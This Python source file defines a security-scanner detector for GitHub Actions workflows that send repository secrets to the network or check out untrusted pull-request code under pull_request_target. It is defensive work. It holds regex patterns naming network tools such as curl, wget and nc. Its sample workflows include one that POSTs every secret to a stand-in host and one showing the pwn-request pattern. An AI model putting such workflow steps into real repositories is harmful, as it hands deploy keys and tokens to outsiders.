"""GitHub Actions workflows that send repository secrets to the network or run untrusted pull-request
code with secrets in reach."""

from __future__ import annotations

import re
from collections.abc import Iterator

from heistguard.artifacts.detectors.base import Detector, Sample, ScanContext, Target
from heistguard.findings import Finding, Rule, Severity

RULE = Rule(
    id="artifacts.actions-secret-exfil",
    severity=Severity.HIGH,
    title="GitHub Actions workflow sends secrets out or runs untrusted code with them",
    rationale="A workflow step that pipes `secrets.*` (or the whole `toJSON(secrets)`) into curl/wget, or a "
    "`pull_request_target` workflow that checks out the pull request's head, hands the repository's "
    "deploy keys and tokens to whoever wrote the step or the pull request.",
    attack=("T1552", "T1567"),
    references=("https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",),
)

_SECRET = re.compile(r"\$\{\{\s*(?:toJSON\(\s*secrets\s*\)|secrets\.[A-Za-z_][\w]*)\s*\}\}")
_NETWORK = re.compile(r"\b(?:curl|wget|Invoke-WebRequest|iwr|nc|ncat|fetch\()|https?://", re.I)
_DUMP_ALL = re.compile(r"toJSON\(\s*secrets\s*\)")
_PR_TARGET = re.compile(r"^\s*(?:on:\s*)?pull_request_target\b|\bon:\s*\[?[^\n]*\bpull_request_target\b", re.M)
_HEAD_CHECKOUT = re.compile(r"ref:\s*\$\{\{\s*github\.event\.pull_request\.head\.(?:sha|ref)\s*\}\}")


def _check(target: Target, ctx: ScanContext) -> Iterator[Finding]:
    text = target.text
    lines = text.splitlines()
    offsets = [0]
    for line in lines:
        offsets.append(offsets[-1] + len(line) + 1)
    # A run step may span lines (`run: |`): look at each secret use with the lines around it.
    for number, line in enumerate(lines):
        if not _SECRET.search(line):
            continue
        window = "\n".join(lines[max(0, number - 3) : number + 4])
        if _DUMP_ALL.search(line) or (_NETWORK.search(window) and re.search(r"\brun:|\bcurl|\bwget", window)):
            what = "every secret" if _DUMP_ALL.search(line) else "a secret"
            yield RULE.finding(f"workflow sends {what} to the network", [target.evidence(offsets[number])])
    if _PR_TARGET.search(text):
        head = _HEAD_CHECKOUT.search(text)
        if head:
            yield RULE.finding(
                "pull_request_target workflow checks out the pull request's code", [target.evidence(head.start())]
            )


DETECTOR = Detector(
    rule=RULE,
    applies=lambda t: ".github/workflows/" in t.inner and t.suffix in ("yml", "yaml"),
    check=_check,
    bad=(
        Sample(
            ".github/workflows/ci.yml",
            b"on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n"
            b"          curl -s -X POST https://collect.example.invalid/x -d '${{ toJSON(secrets) }}'\n",
        ),
        Sample(
            ".github/workflows/pr.yml",
            b"on: pull_request_target\njobs:\n  b:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n"
            b"          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test\n",
        ),
    ),
    good=(
        Sample(
            ".github/workflows/release.yml",
            b"on: push\njobs:\n  p:\n    steps:\n      - run: npm publish\n        env:\n"
            b"          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
        ),
    ),
)
